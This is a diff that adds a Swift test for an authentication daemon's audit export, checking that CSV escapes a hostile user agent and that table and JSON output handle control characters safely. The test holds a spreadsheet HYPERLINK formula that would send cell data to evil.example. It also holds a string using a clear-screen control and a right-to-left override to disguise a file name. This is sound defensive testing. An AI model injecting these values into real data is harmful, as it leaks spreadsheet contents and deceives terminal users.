@@ -79,6 +79,52 @@ import Testing
         }
     }
 
+    /// A user agent that is a spreadsheet formula, and one with an 8-bit CSI (clear screen)
+    /// and a right-to-left override: the CSV export must not run the formula, the table must
+    /// not send the controls to the terminal, and JSON must keep both exactly.
+    @Test func hostileUserAgentsCannotActInCSVOrTable() async throws {
+        let formula = #"=HYPERLINK("//evil.example/x?"&A1,"x")"#
+        let controls = "curl\u{9B}2J\u{202E}gpj.exe"
+        try await Sandbox.with { sandbox in
+            try await sandbox.withStore { store in
+                for (agent, second) in [(formula, 0), (controls, 1)] {
+                    try await store.recordAudit(
+                        .failure(
+                            .login, .badPassword, username: "alice",
+                            context: AuditContext(address: "198.51.100.4", userAgent: agent, requestID: "req-1")),
+                        at: Timestamp(seconds: 1_800_000_000 + Int64(second)))
+                }
+            }
+            expectSuccess(
+                try await sandbox.authd("audit", "--format", "csv"),
+                stdout: """
+                    id,time,event,outcome,reason,username,session,address,user_agent,request_id,count,detail
+                    2,2027-01-15T08:00:01.000000Z,login,failure,bad_password,alice,,198.51.100.4,curl\u{9B}2J\u{202E}gpj.exe,req-1,1,
+                    1,2027-01-15T08:00:00.000000Z,login,failure,bad_password,alice,,198.51.100.4,"'=HYPERLINK(""//evil.example/x?""&A1,""x"")",req-1,1,
+
+                    """)
+
+            let table = try await sandbox.authd("audit")
+            #expect(table.status == 0, "\(table)")
+            #expect(!table.stdout.unicodeScalars.contains { $0.value >= 0x80 && $0.value <= 0x9F }, "\(table)")
+            #expect(!table.stdout.unicodeScalars.contains { $0 == "\u{202E}" }, "\(table)")
+            let lines = table.stdout.split(separator: "\n")
+            #expect(lines.count == 3 && lines[1].contains("198.51.100.4  curl<U+009B>2J<U+202E>gpj.exe  "), "\(table)")
+            // Aligned on what is printed: REQUEST_ID starts where each row's request id does.
+            let header = try #require(lines.first)
+            let column = try #require(header.range(of: "REQUEST_ID")).lowerBound
+            let offset = header.distance(from: header.startIndex, to: column)
+            for line in lines.dropFirst() {
+                #expect(line.dropFirst(offset).hasPrefix("req-1"), "\(table)")
+            }
+
+            let json = try await sandbox.authd("audit", "--format", "json")
+            #expect(json.stdout.contains(#""user_agent":"curl\u009b2J\u202egpj.exe""#), "\(json)")
+            let rows = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]])
+            #expect(rows.map { $0["user_agent"] as? String } == [controls, formula])
+        }
+    }
+
     static let summedBase = Timestamp(seconds: 1_800_000_000)  // 2027-01-15T08:00:00Z
 
     /// A row summing refused anonymous requests shows its count in every format.
